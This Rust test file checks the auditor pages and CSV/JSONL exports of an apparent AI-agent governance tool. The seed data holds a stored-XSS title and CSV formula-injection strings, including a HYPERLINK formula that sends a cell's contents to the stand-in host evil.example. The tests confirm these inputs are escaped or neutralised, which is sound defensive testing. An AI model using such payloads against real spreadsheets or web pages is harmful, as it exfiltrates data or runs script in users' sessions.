//! The auditors' pages and exports through the real router, on SQLite and
//! PostgreSQL: filters, pagination, the change page, escaping, access, and
//! exports that read back as the page's rows.

mod support;

use std::collections::BTreeSet;

use chrono::{DateTime, TimeZone, Utc};
use serde::Deserialize;
use support::decisions::{BASE, decision, head};
use support::keys::{key, repo_name};
use support::server::{TestServer, test_state};
use support::store::on_each_backend;
use warrant::audit::rollback::MergeMethod;
use warrant::audit::{EventKind, NewAuditEvent};
use warrant::engine::Forge;
use warrant::store::changes::{ChangeRecord, ChangeStatus, NewMerge};
use warrant::store::{NewEvaluation, Store};

const SCRIPT_TITLE: &str = "<script>alert(1)</script>";
const MERGE: &str = "4f2a9c1e0b7d3a5f8c6e2d1b9a7f5e3c1d0b8a6f";

fn at(day: u32, hour: u32) -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, day, hour, 0, 0).unwrap()
}

async fn evaluate(
    store: &Store,
    repo: &str,
    number: u64,
    conclusion: &str,
    title: &str,
    when: DateTime<Utc>,
    extra: serde_json::Value,
) {
    let decision = decision(repo, number, conclusion, extra);
    let head = head(number);
    store
        .record_evaluation(
            &NewEvaluation {
                change: &key("github", repo, number),
                head_sha: &head,
                base_sha: Some(BASE),
                check_run_id: Some(number),
                conclusion,
                title,
                decision: Some(&decision),
                input: None,
                texts: None,
                alerts: &[],
                delivery_id: None,
                evaluated_at: when,
            },
            &[],
        )
        .await
        .unwrap();
}

async fn record(store: &Store, repo: &str, number: u64, title: &str, state: ChangeStatus) {
    store
        .upsert_change(&ChangeRecord {
            change: key("github", repo, number),
            title: title.into(),
            author: Some("octocat".into()),
            url: Some(format!("https://github.com/{repo}/pull/{number}")),
            state,
            updated_at: at(20, 9),
        })
        .await
        .unwrap();
}

/// Four changes:
/// - acme/app#1, "Add caching": Claude Code out of scope, blocked (it was
///   allowed at an earlier head), merged by squash;
/// - acme/app#2, a `<script>` title: Copilot waiting for approval, one
///   approval refused;
/// - acme/lib#3: no agent, allowed, no change record;
/// - acme/lib#4: an unregistered bot, observed.
async fn seed(store: &Store) {
    let claude = serde_json::json!({
        "agents": [{"id": "claude-code", "status": {"kind": "registered"}, "role": "app-dev",
            "owner": "alice", "signals": [
                {"kind": "trailer", "verified": false, "source": "commit 0000001 trailer",
                 "value": "Co-Authored-By: Claude <noreply@anthropic.com>", "pattern": "Claude"}]}],
        "violations": [{"kind": "out_of_scope", "agent": "claude-code",
            "message": "`claude-code` changed paths outside its role `app-dev`",
            "paths": ["infra/main.tf"], "blocking": true}]
    });
    evaluate(
        store,
        "acme/app",
        1,
        "success",
        "Allowed: claude-code",
        at(19, 10),
        serde_json::json!({}),
    )
    .await;
    evaluate(
        store,
        "acme/app",
        1,
        "failure",
        "Agent claude-code changed paths outside its role app-dev",
        at(20, 10),
        claude,
    )
    .await;
    record(store, "acme/app", 1, "Add caching", ChangeStatus::Merged).await;
    store
        .record_merge_details(&NewMerge {
            change: &key("github", "acme/app", 1),
            head_sha: &head(1),
            merge_commit_sha: Some(MERGE),
            method: Some(MergeMethod::Squash),
            commit_count: Some(2),
            delivery_id: None,
            recorded_at: at(20, 12),
        })
        .await
        .unwrap();

    let copilot = serde_json::json!({
        "agents": [{"id": "copilot", "status": {"kind": "registered"}, "role": "infra",
            "owner": "bob", "signals": [
                {"kind": "account", "verified": true, "source": "change author",
                 "value": "Copilot", "pattern": "Copilot"}]}],
        "requesters": ["carol"],
        "requirements": [{"id": "sensitive:infra", "label": "infrastructure",
            "paths": ["infra/db.tf"], "approvers": ["@acme/platform"], "min_approvals": 1,
            "approved_by": [], "not_counted": [{"reviewer": "carol", "reason": "requester"}],
            "satisfied": false}]
    });
    evaluate(
        store,
        "acme/app",
        2,
        "action_required",
        "Waiting for 1 approval from @acme/platform for infrastructure",
        at(21, 10),
        copilot,
    )
    .await;
    record(store, "acme/app", 2, SCRIPT_TITLE, ChangeStatus::Open).await;

    evaluate(
        store,
        "acme/lib",
        3,
        "success",
        "No agent found",
        at(22, 10),
        serde_json::json!({}),
    )
    .await;

    let shadow = serde_json::json!({
        "would_conclude": "failure",
        "mode": "observe",
        "agents": [{"id": "bot:shadow[bot]", "status": {"kind": "unregistered"}, "signals": [
            {"kind": "bot_account", "verified": true, "source": "change author",
             "value": "shadow[bot]", "pattern": "[bot]"}]}],
        "violations": [{"kind": "unregistered_agent", "agent": "bot:shadow[bot]",
            "message": "`shadow[bot]` is not registered", "paths": [], "blocking": true}]
    });
    evaluate(
        store,
        "acme/lib",
        4,
        "neutral",
        "Observe mode: would fail: shadow[bot] is not registered",
        at(23, 10),
        shadow,
    )
    .await;
}

async fn started(url: &str) -> TestServer {
    let store = Store::connect(url).await.expect("store connects");
    seed(&store).await;
    TestServer::serve(test_state(&store).with_public_pages(true)).await
}

async fn html(server: &TestServer, path: &str) -> String {
    let response = server.get(path).await;
    assert_eq!(response.status(), 200, "GET {path}");
    response.text().await.unwrap()
}

/// The changes a list page shows, as `repo#number`, in order.
fn listed(page: &str) -> Vec<String> {
    page.split("<th scope=\"row\"><a href=\"/audit/github/")
        .skip(1)
        .map(|rest| {
            let link = &rest[..rest.find('"').unwrap()];
            link.replace("/changes/", "#")
        })
        .collect()
}

#[tokio::test]
async fn the_list_shows_each_change_once_by_its_latest_evaluation() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let page = html(&server, "/audit/changes").await;
        assert_eq!(
            listed(&page),
            ["acme/lib#4", "acme/lib#3", "acme/app#2", "acme/app#1"]
        );
        assert!(page.contains("4 changes match"), "{page}");
        assert!(page.contains("Blocked: out of scope"), "{page}");
        assert!(page.contains("Waiting for approval"), "{page}");
        assert!(page.contains("Add caching"), "{page}");
        assert!(
            page.contains("Observing: would block, unregistered agent"),
            "{page}"
        );
    })
    .await;
}

#[tokio::test]
async fn each_filter_narrows_the_list() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        for (query, expected) in [
            ("repo=acme%2Flib", vec!["acme/lib#4", "acme/lib#3"]),
            ("agent=claude-code", vec!["acme/app#1"]),
            ("agent=bot%3Ashadow%5Bbot%5D", vec!["acme/lib#4"]),
            ("conclusion=action_required", vec!["acme/app#2"]),
            // #1 was allowed once, but its latest evaluation blocks it.
            ("conclusion=success", vec!["acme/lib#3"]),
            ("from=2026-11-22", vec!["acme/lib#4", "acme/lib#3"]),
            ("until=2026-11-20", vec!["acme/app#1"]),
            (
                "from=2026-11-21&until=2026-11-22",
                vec!["acme/lib#3", "acme/app#2"],
            ),
            ("q=CACHING", vec!["acme/app#1"]),
            ("q=%233", vec!["acme/lib#3"]),
            ("q=copilot", vec!["acme/app#2"]),
            ("q=acme%2Fli", vec!["acme/lib#4", "acme/lib#3"]),
            ("q=100%25", vec![]),
            ("forge=gitlab", vec![]),
            ("repo=acme%2Fapp&conclusion=failure", vec!["acme/app#1"]),
        ] {
            let page = html(&server, &format!("/audit/changes?{query}")).await;
            assert_eq!(listed(&page), expected, "{query}");
        }
    })
    .await;
}

#[tokio::test]
async fn pages_link_to_their_neighbours_and_keep_the_filters() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let first = html(&server, "/audit/changes?q=acme&per_page=3").await;
        assert_eq!(listed(&first), ["acme/lib#4", "acme/lib#3", "acme/app#2"]);
        assert!(first.contains("Page 1 of 2"), "{first}");
        assert!(!first.contains("rel=\"prev\""), "{first}");
        assert!(
            first.contains("href=\"/audit/changes?q=acme&#38;page=2&#38;per_page=3\" rel=\"next\""),
            "{first}"
        );
        assert!(first.contains("aria-label=\"Pagination\""));

        let second = html(&server, "/audit/changes?q=acme&page=2&per_page=3").await;
        assert_eq!(listed(&second), ["acme/app#1"]);
        assert!(second.contains("Page 2 of 2"), "{second}");
        assert!(
            second
                .contains("href=\"/audit/changes?q=acme&#38;page=1&#38;per_page=3\" rel=\"prev\""),
            "{second}"
        );
        assert!(!second.contains("rel=\"next\""), "{second}");
    })
    .await;
}

#[tokio::test]
async fn wrong_filter_values_are_a_400_that_says_why() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        for path in [
            "/audit/changes?from=last-week",
            "/audit/changes?page=0",
            "/audit/changes?per_page=many",
            "/audit/export.csv?until=2026-02-30",
            "/audit/export.jsonl?conclusion=maybe",
        ] {
            let response = server.get(path).await;
            assert_eq!(response.status(), 400, "{path}");
            let body = response.text().await.unwrap();
            assert!(body.contains("must be"), "{path}: {body}");
        }
    })
    .await;
}

#[tokio::test]
async fn the_change_page_states_the_decision_evidence_and_rollback() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let one = html(&server, "/audit/github/acme/app/changes/1").await;
        assert!(
            one.contains(
                "Blocked: out of scope</span>. Agent claude-code changed paths outside its role app-dev.</strong>"
            ),
            "{one}"
        );
        assert!(one.contains("href=\"https://github.com/acme/app/pull/1\""), "{one}");
        assert!(one.contains("<td class=\"declared\">declared</td>"), "{one}");
        assert!(one.contains("<code>infra/main.tf</code>"), "{one}");
        assert!(one.contains(&format!("<code>git revert {MERGE}</code>")), "{one}");
        assert!(one.contains("Evaluated: Allowed"), "the earlier evaluation: {one}");

        let two = html(&server, "/audit/github/acme/app/changes/2").await;
        assert!(two.contains("<td class=\"verified\">verified</td>"), "{two}");
        assert!(two.contains("Waiting for 1 more"), "{two}");
        assert!(
            two.contains("<code>carol</code>: the human who asked the agent cannot approve"),
            "{two}"
        );
        assert!(two.contains(&format!("base:{BASE}")) || two.contains(&format!("git reset --hard {BASE}")), "{two}");
    })
    .await;
}

#[tokio::test]
async fn the_change_page_says_per_path_who_owns_it_and_who_approved() {
    on_each_backend(|url| async move {
        let store = Store::connect(&url).await.expect("store connects");
        let owned = serde_json::json!({
            "requirements": [{"id": "sensitive:auth", "label": "authentication",
                "paths": ["src/auth/login.rs", "src/auth/old.rs"],
                "approvers": ["codeowners"], "min_approvals": 1,
                "approved_by": ["alice"], "not_counted": [], "satisfied": false,
                "owned_paths": [{"path": "src/auth/login.rs", "line": 4,
                    "owners": ["@acme/security"], "required": 1, "approved_by": ["alice"]}],
                "unowned": [{"path": "src/auth/old.rs",
                    "unsupported": ["sec@example.com"], "approved_by": []}]}]
        });
        evaluate(
            &store,
            "acme/auth",
            7,
            "failure",
            "Unowned",
            at(21, 10),
            owned,
        )
        .await;
        let server = TestServer::serve(test_state(&store).with_public_pages(true)).await;
        let page = html(&server, "/audit/github/acme/auth/changes/7").await;
        assert!(
            page.contains(
                "<li><code>src/auth/login.rs</code> — owned by <code>@acme/security</code> \
                 (CODEOWNERS line 4) — approved by <code>@alice</code></li>"
            ),
            "{page}"
        );
        assert!(
            page.contains(
                "<li><code>src/auth/old.rs</code> — no code owner; unsupported owners ignored: \
                 <code>sec@example.com</code> — nobody else may approve it</li>"
            ),
            "{page}"
        );
    })
    .await;
}

#[tokio::test]
async fn audit_events_appear_on_the_timeline() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let mut refused = NewAuditEvent::new(
            Forge::Github,
            &repo_name("acme/app"),
            EventKind::ApprovalRefused,
            at(21, 11),
        )
        .with_detail("reason", "the human who asked the agent cannot approve");
        refused.change = Some(2);
        refused.actor = Some("carol".into());
        refused.approval = Some("refused".into());
        server.store.append_audit(&[refused]).await.unwrap();

        let two = html(&server, "/audit/github/acme/app/changes/2").await;
        let timeline = &two[two.find("<h2>Timeline</h2>").unwrap()..];
        let evaluated = timeline.find("Evaluated: Waiting for approval").unwrap();
        let event = timeline.find("Approval not counted").unwrap();
        assert!(evaluated < event, "oldest first: {timeline}");
        assert!(timeline.contains("approval refused"), "{timeline}");
        assert!(timeline.contains("trail #1"), "{timeline}");
    })
    .await;
}

#[tokio::test]
async fn a_missing_change_is_404() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        for path in [
            "/audit/github/acme/app/changes/99",
            "/audit/github/acme/nothing/changes/1",
            "/audit/github/acme/app/changes/one",
            "/audit/bitbucket/acme/app/changes/1",
        ] {
            let response = server.get(path).await;
            assert_eq!(response.status(), 404, "{path}");
            let body = response.text().await.unwrap();
            assert!(body.contains("There is no such change"), "{path}: {body}");
        }
    })
    .await;
}

#[tokio::test]
async fn a_script_title_renders_as_text() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        for path in ["/audit/changes", "/audit/github/acme/app/changes/2"] {
            let page = html(&server, path).await;
            assert!(!page.contains(SCRIPT_TITLE), "{path}: {page}");
            assert!(
                page.contains("&#60;script&#62;alert(1)&#60;"),
                "{path}: {page}"
            );
        }
    })
    .await;
}

#[tokio::test]
async fn without_public_pages_an_anonymous_reader_gets_nothing() {
    on_each_backend(|url| async move {
        let store = Store::connect(&url).await.unwrap();
        seed(&store).await;
        let server = TestServer::serve(test_state(&store)).await;
        for path in [
            "/audit",
            "/audit/changes",
            "/audit/repositories",
            "/audit/agents",
            "/audit/export.csv",
            "/audit/repositories/export.csv",
            "/audit/agents/export.jsonl",
            "/audit/github/acme/app/changes/1",
        ] {
            let response = server.get(path).await;
            assert_eq!(response.status(), 401, "{path}");
            let body = response.text().await.unwrap();
            assert!(!body.contains("acme"), "{path}: {body}");
        }
    })
    .await;
}

/// A row of the changes export, as `docs/audit-export.md` defines it.
#[derive(Debug, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
struct Row {
    timestamp: String,
    forge: String,
    repository: String,
    change: u64,
    title: String,
    head_sha: String,
    agent_id: String,
    agent_registration: String,
    acting_account: String,
    requester: String,
    action: String,
    resource_path: String,
    requirement: String,
    violation: String,
    approval_status: String,
    approved_by: String,
    decision: String,
    rollback: String,
    policy_blob: String,
}

const COLUMNS: &str = "timestamp,forge,repository,change,title,head_sha,agent_id,\
agent_registration,acting_account,requester,action,resource_path,requirement,violation,\
approval_status,approved_by,decision,rollback,policy_blob";

async fn export(server: &TestServer, path: &str) -> (Vec<Row>, String) {
    let response = server.get(path).await;
    assert_eq!(response.status(), 200, "{path}");
    assert_eq!(response.headers()["warrant-export-schema"], "1");
    let body = response.text().await.unwrap();
    let rows = if path.contains(".csv") {
        csv::Reader::from_reader(body.as_bytes())
            .deserialize()
            .collect::<Result<Vec<Row>, _>>()
            .unwrap()
    } else {
        body.lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    };
    (rows, body)
}

#[tokio::test]
async fn exports_read_back_as_the_rows_of_the_page() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let awkward = "Fix \"quotes\", commas;\nand a second line";
        record(&server.store, "acme/lib", 3, awkward, ChangeStatus::Closed).await;
        for query in [
            "",
            "?repo=acme%2Fapp",
            "?conclusion=neutral",
            "?q=nothing-matches",
        ] {
            let page = html(&server, &format!("/audit/changes{query}")).await;
            let (csv_rows, csv_text) = export(&server, &format!("/audit/export.csv{query}")).await;
            let (jsonl_rows, _) = export(&server, &format!("/audit/export.jsonl{query}")).await;
            assert_eq!(csv_rows, jsonl_rows, "{query}");
            if !csv_rows.is_empty() {
                assert_eq!(csv_text.lines().next().unwrap(), COLUMNS);
            }
            let exported: BTreeSet<String> = csv_rows
                .iter()
                .map(|r| format!("{}#{}", r.repository, r.change))
                .collect();
            let shown: BTreeSet<String> = listed(&page).into_iter().collect();
            assert_eq!(exported, shown, "{query}");
        }

        let (rows, _) = export(
            &server,
            "/audit/export.csv?repo=acme%2Flib&conclusion=success",
        )
        .await;
        assert_eq!(rows.len(), 1, "{rows:?}");
        assert_eq!(
            rows[0].title, awkward,
            "quotes, commas and line breaks survive CSV"
        );
        assert_eq!(
            (rows[0].action.as_str(), rows[0].rollback.as_str()),
            ("evaluated", "")
        );

        let (rows, _) = export(&server, "/audit/export.jsonl?agent=claude-code").await;
        assert_eq!(rows.len(), 1, "{rows:?}");
        let r = &rows[0];
        assert_eq!(r.timestamp, "2026-11-20T10:00:00.000Z");
        assert_eq!(
            (r.agent_id.as_str(), r.action.as_str()),
            ("claude-code", "blocked")
        );
        assert_eq!(r.resource_path, "infra/main.tf");
        assert_eq!(r.violation, "out of scope");
        assert_eq!(r.decision, "failure");
        assert_eq!(r.title, "Add caching");
        assert_eq!(r.rollback, format!("git revert {MERGE}"));
        assert_eq!(r.policy_blob, "b10b");

        let (rows, _) = export(&server, "/audit/export.csv?agent=copilot").await;
        assert_eq!(rows.len(), 1, "{rows:?}");
        let r = &rows[0];
        assert_eq!(r.title, SCRIPT_TITLE, "exports carry the text as written");
        assert_eq!(r.acting_account, "Copilot");
        assert_eq!(r.requester, "carol");
        assert_eq!(
            (r.action.as_str(), r.approval_status.as_str()),
            ("approval_required", "waiting")
        );
        assert_eq!(r.resource_path, "infra/db.tf");
        assert_eq!(r.rollback, format!("base:{BASE}"));
    })
    .await;
}

#[tokio::test]
async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let query = "?repo=acme%2Flib&conclusion=success";
        for title in [
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
            "+1+1",
            "-1",
            "@SUM(A1:A9)",
            "\tX",
            "\rX",
        ] {
            record(&server.store, "acme/lib", 3, title, ChangeStatus::Closed).await;
            let (csv_rows, _) = export(&server, &format!("/audit/export.csv{query}")).await;
            let (jsonl_rows, _) = export(&server, &format!("/audit/export.jsonl{query}")).await;
            assert_eq!(csv_rows[0].title, format!("'{title}"), "{title:?}");
            assert_eq!(
                jsonl_rows[0].title, title,
                "JSON Lines carry the text as written"
            );
        }

        let mut seen = NewAuditEvent::new(
            Forge::Github,
            &repo_name("acme/app"),
            EventKind::AgentIdentified,
            at(24, 8),
        );
        seen.change = Some(5);
        seen.agent = Some("=1+1".into());
        server.store.append_audit(&[seen]).await.unwrap();
        let body = html(&server, "/audit/agents/export.csv").await;
        let ids: Vec<String> = csv::Reader::from_reader(body.as_bytes())
            .records()
            .map(|r| r.unwrap()[0].to_owned())
            .collect();
        assert!(ids.contains(&"'=1+1".to_owned()), "{ids:?}");
        assert!(!ids.contains(&"=1+1".to_owned()), "{ids:?}");
    })
    .await;
}

#[tokio::test]
async fn the_agents_page_lists_unregistered_agents_first_with_their_counts() {
    on_each_backend(|url| async move {
        let server = started(&url).await;
        let mut seen = NewAuditEvent::new(
            Forge::Github,
            &repo_name("acme/app"),
            EventKind::AgentIdentified,
            at(24, 8),
        );
        seen.change = Some(5);
        seen.agent = Some("unregistered:devin".into());
        server.store.append_audit(&[seen]).await.unwrap();

        let page = html(&server, "/audit/agents").await;
        let order: Vec<usize> = [
            "unregistered:devin",
            "bot:shadow[bot]",
            "copilot",
            "claude-code",
        ]
        .iter()
        .map(|id| {
            page.find(&format!("<code>{id}</code>"))
                .unwrap_or_else(|| panic!("{id}: {page}"))
        })
        .collect();
        assert!(order.windows(2).all(|w| w[0] < w[1]), "{order:?}: {page}");
        assert!(page.contains("of which 2 not registered"), "{page}");

        #[derive(Debug, Deserialize)]
        struct Agent {
            agent_id: String,
            registration: String,
            role: String,
            repositories: String,
            changes: u64,
            blocked: u64,
        }
        let body = server
            .get("/audit/agents/export.csv")
            .await
            .text()
            .await
            .unwrap();
        let agents: Vec<Agent> = csv::Reader::from_reader(body.as_bytes())
            .deserialize()
            .collect::<Result<_, _>>()
            .unwrap();
        let claude = agents.iter().find(|a| a.agent_id == "claude-code").unwrap();
        assert_eq!(
            (claude.registration.as_str(), claude.role.as_str()),
            ("registered", "app-dev")
        );
        assert_eq!((claude.changes, claude.blocked), (1, 1));
        let shadow = agents
            .iter()
            .find(|a| a.agent_id == "bot:shadow[bot]")
            .unwrap();
        assert_eq!(shadow.registration, "unregistered");
        assert_eq!(shadow.repositories, "github:acme/lib");
        assert_eq!(shadow.blocked, 1, "observe mode would have blocked it");
        let devin = agents
            .iter()
            .find(|a| a.agent_id == "unregistered:devin")
            .unwrap();
        assert_eq!(
            (devin.registration.as_str(), devin.changes),
            ("unregistered", 1)
        );

        let jsonl = server
            .get("/audit/agents/export.jsonl")
            .await
            .text()
            .await
            .unwrap();
        assert_eq!(jsonl.lines().count(), agents.len());
    })
    .await;
}

#[tokio::test]
async fn the_change_page_lists_the_past_changes_a_proposed_policy_would_flip() {
    on_each_backend(|url| async move {
        let store = Store::connect(&url).await.expect("store connects");
        let proposed = serde_json::json!({ "proposed": [{
            "from": "repository",
            "path": ".github/warrant.yml",
            "blob_id": "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432",
            "differences": [{
                "key": "roles.app-dev.scope.allow",
                "effect": "relaxed",
                "change": "`infra/**` added"
            }],
            "replay": {
                "replayed": 3,
                "flips": [{
                    "repository": "acme/app",
                    "number": 1,
                    "from": "failure",
                    "to": "success",
                    "reason": "agent claude-code within scope"
                }, {
                    "repository": "acme/web",
                    "number": 4,
                    "from": "action_required",
                    "to": "success",
                    "reason": "agent claude-code within scope",
                    "unrecorded": ["the members of acme/sre"]
                }]
            }
        }]});
        evaluate(&store, "acme/app", 9, "success", "Widen the scope", at(21, 9), proposed).await;
        let server = TestServer::serve(test_state(&store).with_public_pages(true)).await;
        let page = html(&server, "/audit/github/acme/app/changes/9").await;
        assert!(
            page.contains(
                "<p>Decided 3 past changes again under the proposed policy: 2 would conclude otherwise.</p>"
            ),
            "{page}"
        );
        assert!(
            page.contains("<li><code>#1: failure -&#62; success (agent claude-code within scope)</code></li>"),
            "{page}"
        );
        assert!(
            page.contains(
                "<li><code>acme/web#4: action_required -&#62; success (agent claude-code within scope); \
                 not recorded, taken as absent: the members of acme/sre</code></li>"
            ),
            "{page}"
        );
    })
    .await;
}
